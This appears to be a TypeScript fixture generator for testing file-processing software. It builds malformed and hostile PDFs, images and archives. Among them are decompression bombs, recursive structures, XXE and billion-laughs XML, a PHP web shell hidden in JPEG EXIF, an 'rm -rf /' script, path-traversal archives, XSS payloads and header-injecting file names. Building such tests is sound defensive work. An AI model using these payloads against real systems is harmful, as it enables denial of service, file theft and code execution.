// Files designed to harm whatever opens them: bombs, loops, impossible sizes, two formats in one, scripts and actions, truncated, wrongly named.
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { createCanvas } from '@napi-rs/canvas';
import { zipSync } from 'fflate';
import { seededRandom } from './proof-counts.ts';

export interface CraftedFile {
  readonly name: string;
  readonly kind: 'pdf' | 'picture' | 'other';
  readonly bytes: Buffer;
}

const latin = (text: string) => Buffer.from(text, 'latin1');
const all = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)));

/** Objects 1, 2, … with a correct cross-reference table; object 1 is the catalog. */
function pdfOf(objects: readonly (string | Uint8Array)[], trailer = ''): Buffer {
  let file = latin('%PDF-1.7\n');
  const places: number[] = [];
  for (const [index, body] of objects.entries()) {
    places.push(file.length);
    file = all(file, `${index + 1} 0 obj\n`, body, '\nendobj\n');
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return all(
    file,
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`,
    `trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${file.length}\n%%EOF\n`,
  );
}

const stream = (head: string, bytes: string | Uint8Array) =>
  all(`<<${head}/Length ${bytes.length}>>stream\n`, bytes, '\nendstream');
/** A single page; the other arguments are further objects, from 5 on. */
const onePage = (
  content: string | Uint8Array,
  { page = '/MediaBox[0 0 595 842]', head = '', catalog = '' } = {},
  more: readonly (string | Uint8Array)[] = [],
) =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${page}/Contents 4 0 R>>`,
    stream(head, content),
    ...more,
  ]);

const megabyte = 1024 * 1024;
const zeros = (megabytes: number) => Buffer.alloc(megabytes * megabyte);
const deflated = (bytes: Uint8Array, times: number): Buffer =>
  times === 0 ? Buffer.from(bytes) : deflated(deflateSync(bytes, { level: times > 1 ? 1 : 9 }), times - 1);
const filters = (name: string, count: number) => `/Filter[${`/${name} `.repeat(count)}]`;

function bombs(large: number): Record<string, Buffer> {
  const found: Record<string, Buffer> = {};
  for (const [megabytes, times] of [[large / 8, 1], [large / 2, 1], [large, 1], [large / 2, 2], [large, 2], [large, 3]] as const)
    found[`${megabytes} MB deflated ${times} times`] = onePage(deflated(zeros(megabytes), times), {
      head: filters('FlateDecode', times),
    }); // biome-ignore format: a list
  for (const name of ['ASCIIHexDecode', 'ASCII85Decode', 'RunLengthDecode', 'LZWDecode', 'FlateDecode'])
    for (const count of [50, 2_000])
      found[`${count} times ${name}`] = onePage('00', { head: filters(name, count) });
  const text = latin('(x) Tj '.repeat(4_000_000));
  found['four million words'] = onePage(deflated(text, 1), { head: filters('FlateDecode', 1) });
  found['a million states'] = onePage(deflated(latin('q '.repeat(1_000_000)), 1), {
    head: filters('FlateDecode', 1),
  });
  return found;
}

function sizes(): Record<string, Buffer> {
  const found: Record<string, Buffer> = {};
  for (const box of [
    '0 0 1000000000 1000000000', '0 0 -5 -5', '0 0 0 0', '9 9 1 1', '0 0 1e308 1e308', '0 0 2147483648 1',
    '-2147483648 -2147483648 2147483647 2147483647', '0 0', '/a /b /c /d',
  ]) // biome-ignore format: a list
    found[`a page of ${box}`] = onePage('', { page: `/MediaBox[${box}]` });
  for (const [width, height, more] of [
    [40_000, 40_000, ''], [100_000, 100_000, ''], [2_147_483_647, 1, ''], [-1, -1, ''], [1, 2_147_483_647, ''],
    [65_000, 65_000, '/Filter/DCTDecode'], [65_000, 65_000, '/Filter/JPXDecode'], [65_000, 65_000, '/Filter/JBIG2Decode'],
    [65_000, 65_000, '/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 1000000000/Rows 1000000000>>'],
    [10, 10, '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>'],
  ] as const) // biome-ignore format: a list
    found[`a picture of ${width} × ${height} ${more}`] = onePage(
      '595 0 0 842 0 0 cm /I Do',
      { page: '/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>' },
      [
        stream(
          `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/ColorSpace/DeviceGray/BitsPerComponent 8${more}`,
          more.includes('Flate') ? deflateSync(Buffer.alloc(100)) : Buffer.alloc(100),
        ),
      ],
    );
  return found;
}

function loops(): Record<string, Buffer> {
  const catalog = '<</Type/Catalog/Pages 2 0 R>>';
  const chain = Array.from(
    { length: 5_000 },
    (_, index) => `<</Type/Pages/Count 1/Kids[${index + 3} 0 R]/Parent ${index + 1} 0 R>>`,
  );
  const form = (name: string, of: number) =>
    stream(
      `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</${name} ${of} 0 R>>>>`,
      `/${name} Do`,
    );
  const withForm = { page: '/MediaBox[0 0 99 99]/Resources<</XObject<</F 5 0 R>>>>' };
  const good = onePage('BT ET').toString('latin1');
  return {
    'pages of themselves': pdfOf([catalog, '<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>']),
    'pages in a circle': pdfOf([
      catalog,
      '<</Type/Pages/Count 9/Kids[3 0 R]>>',
      '<</Type/Pages/Count 9/Kids[2 0 R]>>',
    ]),
    'pages five thousand deep': pdfOf([catalog, ...chain]),
    'minus one page': pdfOf([catalog, '<</Type/Pages/Count -1/Kids[]>>']),
    'a billion pages': pdfOf([catalog, '<</Type/Pages/Count 1000000000/Kids[3 0 R]>>', '<</Type/Page>>']),
    'thirty thousand pages': pdfOf([
      catalog,
      `<</Type/Pages/Count 30000/Kids[${'3 0 R '.repeat(30_000)}]>>`,
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
    ]),
    'a form in itself': onePage('/F Do', withForm, [form('F', 5)]),
    'two forms in each other': onePage('/F Do', withForm, [form('G', 6), form('F', 5)]),
    'a length that is itself': onePage('', {}).subarray(0, -1),
    'a table before itself': latin(good.replace('/Root', '/Prev 9/Root')),
    'a table at minus one': latin(good.replace('/Root', '/Prev -1/Root')),
    'a table far away': latin(good.replace(/startxref\n\d+/, 'startxref\n99999999999')),
    'a table of a stream of itself': latin(good.replace('/Root', '/XRefStm 9/Root')),
    'no table': latin(good.replace(/xref[\s\S]*/, '')),
    'a root that is a number': latin(good.replace('/Root 1 0 R', '/Root 5')),
    'a catalog in an object stream of itself': pdfOf([
      stream('/Type/ObjStm/N 1/First 4/Extends 1 0 R', '1 0 <</Type/Catalog>>'),
    ]),
    ...Object.fromEntries(
      (['[', '<<', '(', '<</A ', '[<<', 'BT (', '/A BMC '] as const).flatMap((open) => [
        [`content nested by ${open}`, onePage(open.repeat(200_000))],
        [`a catalog nested by ${open}`, onePage('', { catalog: `/X ${open.repeat(50_000)}` })],
      ]),
    ),
  };
}

function actions(): Record<string, Buffer> {
  const found: Record<string, Buffer> = {};
  for (const action of [
    '/S/JavaScript/JS(app.alert(1))',
    '/S/Launch/F(/bin/sh)',
    '/S/URI/URI(javascript:alert(1))',
    '/S/SubmitForm/F(http://x.test)',
    '/S/GoToR/F(../../etc/passwd)/D[0]',
    '/S/ImportData/F(/etc/passwd)',
    '/S/Named/N/Print',
  ]) {
    // biome-ignore format: a list
    found[`opens ${action}`] = onePage('', { catalog: `/OpenAction<<${action}>>` });
    found[`a page that does ${action}`] = onePage('', { page: `/MediaBox[0 0 9 9]/AA<</O<<${action}>>>>` });
  }
  found['an attached program'] = onePage(
    '',
    { catalog: '/Names<</EmbeddedFiles<</Names[(../../run.exe)5 0 R]>>>>' },
    ['<</Type/Filespec/F(../../run.exe)/EF<</F 6 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ\x90\0')],
  );
  found['a form of XML'] = onePage('', { catalog: '/AcroForm<</XFA 5 0 R>>' }, [
    stream('', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
  ]);
  const doubled = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'];
  found['laughs in its metadata'] = onePage('', { catalog: '/Metadata 5 0 R' }, [
    stream(
      '/Type/Metadata/Subtype/XML',
      `<!DOCTYPE x [<!ENTITY a "ha">${doubled
        .slice(1)
        .map((one, at) => `<!ENTITY ${one} "${`&${doubled[at]};`.repeat(10)}">`)
        .join('')}]><x>&h;</x>`,
    ),
  ]);
  return found;
}

function fonts(): Record<string, Buffer> {
  const text = 'BT /F 12 Tf (AAAA) Tj '.repeat(2_000);
  const withFont = { page: '/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>' };
  const font = (more: string) => `<</Type/Font/Subtype/Type1/BaseFont/Helvetica${more}>>`;
  const map = (body: string) => stream('', `/CIDInit /ProcSet findresource begin begincmap ${body} endcmap`);
  const long = '0995'.repeat(20_000);
  return {
    'a letter of twenty thousand': onePage(text, withFont, [
      font('/ToUnicode 6 0 R'),
      map(`1 beginbfchar <41> <${long}> endbfchar`),
    ]),
    'a map of everything': onePage(text, withFont, [
      font('/ToUnicode 6 0 R'),
      map('1 beginbfrange <0000> <ffffffff> <0000> endbfrange'),
    ]),
    'a map that uses itself': onePage(text, withFont, [
      font('/ToUnicode 6 0 R'),
      stream('/UseCMap 6 0 R', '/X usecmap'),
    ]),
    'widths beyond numbers': onePage(text, withFont, [
      font(`/FirstChar 0/LastChar 2147483647/Widths[${'1e308 '.repeat(300)}]`),
    ]),
    'a broken font file': onePage(text, withFont, [
      '<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>',
      '<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>',
      stream('', latin(`\0\x01\0\0\xff\xff${'\xff'.repeat(4_000)}`)),
    ]),
    'a drawn font of itself': onePage(text, withFont, [
      '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</A 6 0 R>>/Encoding<</Differences[65/A]>>/FirstChar 65/LastChar 65/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>',
      stream('', 'BT /F 9 Tf (A) Tj ET'),
    ]),
    'letters of no size': onePage('BT /F 0 Tf (A) Tj ET '.repeat(5_000), withFont, [font('')]),
    'letters of all size': onePage('BT /F 1e30 Tf 1e30 Tz (A) Tj ET '.repeat(5_000), withFont, [font('')]),
    'a secret that is none': pdfOf(
      ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 0/Kids[]>>'],
      '/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -1/OE(x)/UE(x)/Length 99999>>/ID[(a)(b)]',
    ),
  };
}

function chunk(type: string, body: Uint8Array): Buffer {
  const named = all(type, body);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(body.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return all(frame.subarray(0, 4), named, frame.subarray(4));
}
const pngHead = latin('\x89PNG\r\n\x1a\n');
function pngOf(width: number, height: number, data: Uint8Array, more: readonly Buffer[] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width >>> 0, 0);
  head.writeUInt32BE(height >>> 0, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return all(pngHead, chunk('IHDR', head), ...more, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0)));
}

function picturesOf(large: number): Record<string, Buffer> {
  const canvas = createCanvas(300, 300);
  canvas.getContext('2d').fillRect(0, 0, 150, 150);
  const png = canvas.toBuffer('image/png');
  const jpeg = canvas.toBuffer('image/jpeg');
  const found: Record<string, Buffer> = {};
  for (const [width, height] of [
    [40_000, 40_000], [2_147_483_647, 2_147_483_647], [4_294_967_295, 1], [0, 0], [1, 0], [20_000, 20_000],
  ] as const) // biome-ignore format: a list
    found[`png of ${width} × ${height}`] = pngOf(width, height, deflateSync(Buffer.alloc(1000)));
  found['png of 4900 × 4900 zeros'] = pngOf(
    4_900,
    4_900,
    deflateSync(Buffer.alloc(4_900 * (4_900 * 3 + 1)), { level: 9 }),
  );
  found['png with far too much for 9 pixels'] = pngOf(3, 3, deflated(zeros(large), 1));
  found['png with a vast text'] = pngOf(3, 3, deflateSync(Buffer.alloc(30)), [
    chunk('zTXt', all('a\0\0', deflated(zeros(large), 1))),
    chunk('iCCP', all('a\0\0', deflated(zeros(large / 4), 1))),
  ]);
  found['png of fifty thousand chunks'] = pngOf(
    3,
    3,
    deflateSync(Buffer.alloc(30)),
    Array.from({ length: 50_000 }, () => chunk('tEXt', latin('a\0b'))),
  );
  found['png of ten thousand frames'] = pngOf(3, 3, deflateSync(Buffer.alloc(30)), [
    chunk('acTL', Buffer.from([0, 0, 39, 16, 0, 0, 0, 0])),
  ]);
  found['png with a wrong sum'] = Buffer.from(png.map((byte, at) => (at === 40 ? byte ^ 255 : byte)));
  found['png without its end'] = png.subarray(0, -12);
  found['png in which a page stands'] = pngOf(3, 3, deflateSync(Buffer.alloc(30)), [
    chunk('tEXt', latin('a\0<script>alert(1)</script>')),
  ]);
  const sof = jpeg.indexOf(latin('\xff\xc0'));
  for (const [width, height] of [[65_535, 65_535], [0, 0], [65_535, 1], [1, 65_535], [12_000, 12_000]] as const) {
    const sized = Buffer.from(jpeg);
    if (sof > 0) {
      sized.writeUInt16BE(height, sof + 5);
      sized.writeUInt16BE(width, sof + 7);
    }
    found[`jpeg of ${width} × ${height}`] = sized;
  } // biome-ignore format: a list
  const note = latin(`\xff\xfe\xff\xff${'x'.repeat(65_533)}`);
  found['jpeg of a hundred comments'] = all(
    jpeg.subarray(0, 2),
    ...Array.from({ length: 100 }, () => note),
    jpeg.subarray(2),
  );
  found['jpeg with a program in EXIF'] = all(
    jpeg.subarray(0, 2),
    '\xff\xe1\0\x30Exif\0\0<?php system($_GET[0]); ?>                  ',
    jpeg.subarray(2),
  );
  const scan = jpeg.indexOf(latin('\xff\xda'));
  found['jpeg of three thousand scans'] = all(
    jpeg.subarray(0, -2),
    ...Array.from({ length: 3_000 }, () => jpeg.subarray(scan, scan + 60)),
    '\xff\xd9',
  );
  for (let part = 1; part <= 8; part += 1) {
    found[`png cut at ${part} of 9`] = png.subarray(0, Math.floor((png.length * part) / 9));
    found[`jpeg cut at ${part} of 9`] = jpeg.subarray(0, Math.floor((jpeg.length * part) / 9));
  }
  return found;
}

function others(good: Buffer, large: number): Record<string, Buffer> {
  const random = seededRandom(7);
  const bytes = (count: number) =>
    Buffer.from(Array.from({ length: count }, () => Math.floor(random() * 256)));
  const zip = Buffer.from(
    zipSync({ '../../etc/passwd': bytes(20), 'word/document.xml': latin('<x/>'.repeat(50_000)) }),
  );
  const heads: Record<string, string | Uint8Array> = {
    'a page of HTML': '<html><script>alert(1)</script></html>',
    'a drawing with a script':
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>',
    'a gif': 'GIF89a\xff\xff\xff\xff\0\0\0;',
    'a bitmap': `BM${'\xff'.repeat(60)}`,
    'a tiff of itself': 'II*\0\x08\0\0\0\x01\0\0\x01\x04\0\xff\xff\xff\x7f\0\0\0\0\x08\0\0\0',
    'a webp': 'RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff/\xff\xff\xff\xff',
    'a heic': '\0\0\0\x18ftypheic\0\0\0\0mif1heic\xff\xff\xff\xffmeta',
    'an avif': '\0\0\0\x18ftypavif\0\0\0\0mif1avif\xff\xff\xff\xffmeta',
    'a program for Windows': `MZ${'\x90'.repeat(500)}`,
    'a program for Linux': `\x7fELF${'\x02'.repeat(500)}`,
    'a shell script': '#!/bin/sh\nrm -rf /\n',
    'a zip with a way out': zip,
    'a zip of far more': zipSync({ a: zeros(large) }, { level: 1 }),
    'a gzip of far more': gzipSync(zeros(large), { level: 1 }),
    'a tar with a way out': `${'../../etc/passwd'.padEnd(100, '\0')}0000644\0${'0'.repeat(400)}`,
    PostScript: '%!PS\n{(/etc/passwd)(r) file}loop',
    'a postscript in a pdf': '%!PS\n%PDF-1.4\n{ } loop',
    nothing: '',
    'one byte': 'x',
    'a megabyte of nothing': Buffer.alloc(1_000_000),
    'a megabyte of noise': bytes(1_000_000),
    'text in two bytes': Buffer.from('\ufeff%PDF-1.7', 'utf16le'),
    'a head alone': '%PDF-1.7\n',
    'an end alone': '%%EOF',
    'ten thousand ends': `%PDF-1.7\n${'%%EOF\nstartxref\n0\n'.repeat(10_000)}`,
  };
  const found: Record<string, Buffer> = {};
  for (const [name, head] of Object.entries(heads)) found[name] = all(head);
  for (const name of [
    'a page of HTML',
    'a zip with a way out',
    'a program for Windows',
    'a gif',
    'a shell script',
  ]) {
    found[`${name}, then a pdf`] = all(heads[name]!, '\n', good);
    found[`a pdf, then ${name}`] = all(good, heads[name]!);
  }
  for (let part = 1; part <= 40; part += 1)
    found[`a copy cut at ${part} of 41`] = good.subarray(0, Math.floor((good.length * part) / 41));
  return found;
}

/**
 * @param good a readable copy
 * @param large megabytes to which the largest bomb unpacks
 */
export function craftFiles(good: Buffer, large: number): CraftedFile[] {
  const kinds = (kind: CraftedFile['kind'], files: Record<string, Buffer>) =>
    Object.entries(files).map(([name, bytes]) => ({ name, kind, bytes }));
  return [
    ...kinds('pdf', { ...bombs(large), ...sizes(), ...loops(), ...actions(), ...fonts() }),
    ...kinds('picture', picturesOf(large)),
    ...kinds('other', others(good, large)),
  ];
}

/** File names, which reach headers, pages and lists. */
export const craftedNames = [
  '../../etc/passwd', 'copy.pdf\0.exe', 'con.pdf', `${'ক'.repeat(400)}.pdf`, '\u202efdp.exe', '"><script>.pdf', 'a\r\nSet-Cookie: b=c.pdf', '.htaccess', '',
]; // biome-ignore format: a list
